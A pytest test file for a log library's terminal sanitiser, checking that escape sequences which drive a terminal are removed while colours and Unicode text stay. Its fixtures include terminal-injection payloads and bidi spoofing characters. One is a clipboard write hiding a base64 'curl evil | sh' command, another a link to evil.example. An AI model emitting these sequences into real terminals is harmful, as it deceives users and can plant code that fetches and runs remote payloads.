"""Escape sequences: colours kept for terminals, everything that drives a terminal removed."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from logcast.ansi import sanitize_for_terminal, strip_ansi

ESC = "\x1b"
RED, RESET = f"{ESC}[31m", f"{ESC}[0m"
REPLACEMENT = "\ufffd"

HOSTILE = {
    "window title (OSC 0, BEL)": f"{ESC}]0;you have been pwned\x07",
    "window title (OSC 2, ST)": f"{ESC}]2;title{ESC}\\",
    "hyperlink (OSC 8)": f"{ESC}]8;;https://evil.example/{ESC}\\",
    "clipboard write (OSC 52)": f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "clear screen": f"{ESC}[2J",
    "cursor home": f"{ESC}[H",
    "cursor up": f"{ESC}[5A",
    "erase line": f"{ESC}[2K",
    "alternate screen": f"{ESC}[?1049h",
    "hide cursor": f"{ESC}[?25l",
    "scroll region": f"{ESC}[1;5r",
    "device status report": f"{ESC}[6n",
    "DCS": f"{ESC}P+q544e{ESC}\\",
    "APC": f"{ESC}_payload{ESC}\\",
    "PM": f"{ESC}^privacy{ESC}\\",
    "SOS": f"{ESC}Xstring{ESC}\\",
    "reset terminal (RIS)": f"{ESC}c",
    "save cursor": f"{ESC}7",
    "charset designation": f"{ESC}(0",
    "8-bit CSI clear screen": "\x9b2J",
    "8-bit CSI with SGR form": "\x9b31m",
    "8-bit OSC title": "\x9d0;title\x9c",
    "8-bit OSC ended by BEL": "\x9d0;title\x07",
    "8-bit DCS": "\x90qdata\x9c",
}


@pytest.mark.parametrize("sequence", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_sequence_is_removed_whole(sequence: str) -> None:
    line = f"before {sequence}after"
    assert sanitize_for_terminal(line) == "before after"
    assert strip_ansi(line) == "before after"


def test_colours_are_kept_for_terminals() -> None:
    line = f"{RED}error{RESET} plain {ESC}[1;38;2;255;128;0mbold orange{ESC}[m {ESC}[38:5:196mred{ESC}[39m"
    assert sanitize_for_terminal(line) == line


def test_the_attribute_that_hides_text_is_dropped_and_colours_that_are_8_stay() -> None:
    """SGR 8 (conceal) left on by one line hid every later line of `logcast tail` (a review)."""
    assert sanitize_for_terminal(f"{ESC}[8mhidden") == "hidden"
    assert sanitize_for_terminal(f"{ESC}[08mhidden") == "hidden"
    assert sanitize_for_terminal(f"{ESC}[1;8;31mx") == f"{ESC}[1;31mx"
    assert sanitize_for_terminal(f"{ESC}[48;8mx") == f"{ESC}[48mx"  # no colour follows 48: 8 is conceal
    for kept in (
        f"{ESC}[38;5;8mgrey",
        f"{ESC}[48;2;8;8;8mbg",
        f"{ESC}[28mshown",
        f"{ESC}[58;5;8mu",
        f"{ESC}[88m",
    ):
        assert sanitize_for_terminal(kept) == kept


def test_strip_removes_colours_and_keeps_text() -> None:
    line = f"{ESC}[2m2024-01-01T12:00:00Z{RESET} {ESC}[32m INFO{RESET} listening"
    assert strip_ansi(line) == "2024-01-01T12:00:00Z  INFO listening"


def test_title_is_removed_but_colours_around_it_stay() -> None:
    line = f"{RED}alert{ESC}]0;owned\x07{RESET} done"
    assert sanitize_for_terminal(line) == f"{RED}alert{RESET} done"
    assert strip_ansi(line) == "alert done"


def test_hyperlink_text_survives_without_the_link() -> None:
    line = f"see {ESC}]8;;https://evil.example/{ESC}\\the docs{ESC}]8;;{ESC}\\ now"
    assert sanitize_for_terminal(line) == "see the docs now"


def test_lone_controls_become_visible_placeholders() -> None:
    line = "bell\x07 back\x08space nul\x00 del\x7f c1\x85 esc\x1b"
    expected = "bell_ back_space nul_ del_ c1_ esc_".replace("_", REPLACEMENT)
    assert sanitize_for_terminal(line) == expected
    assert strip_ansi(line) == "bell backspace nul del c1 esc"


BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]


@pytest.mark.parametrize("control", BIDI, ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidirectional_controls_are_shown_as_placeholders(control: str) -> None:
    """An override or isolate would show what follows in another order than it was written
    (a file named `txt.exe` shown as `exe.txt`): it becomes a placeholder like a control."""
    line = f"open {control}txt.exe ok"
    assert sanitize_for_terminal(line) == f"open {REPLACEMENT}txt.exe ok"
    assert strip_ansi(line) == "open txt.exe ok"


def test_right_to_left_text_and_its_marks_are_kept() -> None:
    """Hebrew and Arabic text, the direction marks (U+200E, U+200F, U+061C) and the joiners
    of emoji and Persian words are text, not controls."""
    line = "שלום עולם \u200f مرحبا\u061c \u200e ok 👨\u200d👩 می\u200cخواهم"
    assert sanitize_for_terminal(line) == line
    assert strip_ansi(line) == line


def test_tab_and_unicode_text_are_preserved() -> None:
    line = "col1\tcol2\t✓ naïve — 😀 中文"
    assert sanitize_for_terminal(line) == line
    assert strip_ansi(line) == line


def test_unterminated_string_sequence_runs_to_the_end() -> None:
    assert sanitize_for_terminal(f"text {ESC}]0;title without end") == "text "
    assert sanitize_for_terminal(f"text {ESC}]0;title{RED}red") == f"text {RED}red"


def test_incomplete_csi_leaves_only_harmless_text() -> None:
    out = sanitize_for_terminal(f"cut {ESC}[3")
    assert ESC not in out and "\x9b" not in out


def test_plain_text_is_returned_as_is() -> None:
    line = "nothing special here"
    assert sanitize_for_terminal(line) is line
    assert strip_ansi(line) is line


text_with_controls = st.text(
    st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from(
            ["\x1b", "\x9b", "\x9d", "[", "]", "\x07", "\\", "m", ";", "0", "2", "J", "?", "\u202e", "\u2067"]
        ),
    ),
    max_size=80,
)


@given(text_with_controls)
def test_sanitized_text_drives_nothing(text: str) -> None:
    out = sanitize_for_terminal(text)
    # What is left of ESC is the start of an SGR sequence, and nothing else controls.
    for i, ch in enumerate(out):
        if ch == ESC:
            end = out.index("m", i)
            assert all(c in "0123456789;:" for c in out[i + 2 : end]) and out[i + 1] == "["
        else:
            assert ch == "\t" or not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in BIDI)


@given(text_with_controls)
def test_stripped_text_has_no_controls(text: str) -> None:
    out = strip_ansi(text)
    assert all(ch == "\t" or not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in BIDI) for ch in out)
    assert strip_ansi(out) == out
